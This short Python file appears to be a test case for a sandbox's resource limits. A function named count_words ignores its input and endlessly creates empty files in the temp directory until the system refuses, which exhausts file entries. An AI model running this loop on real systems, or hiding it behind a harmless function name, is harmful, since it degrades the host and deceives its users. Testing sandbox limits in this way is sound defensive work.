"""Make empty files without end (row 10): no byte is written, and each costs the system some.

seconds: 4
says: count_words('a b a')
"""
import itertools
import os
import tempfile


def count_words(text):
    """Make files until it is refused."""
    for number in itertools.count():
        with open(os.path.join(tempfile.gettempdir(), f"tiny{number}"), "wb"):
            pass
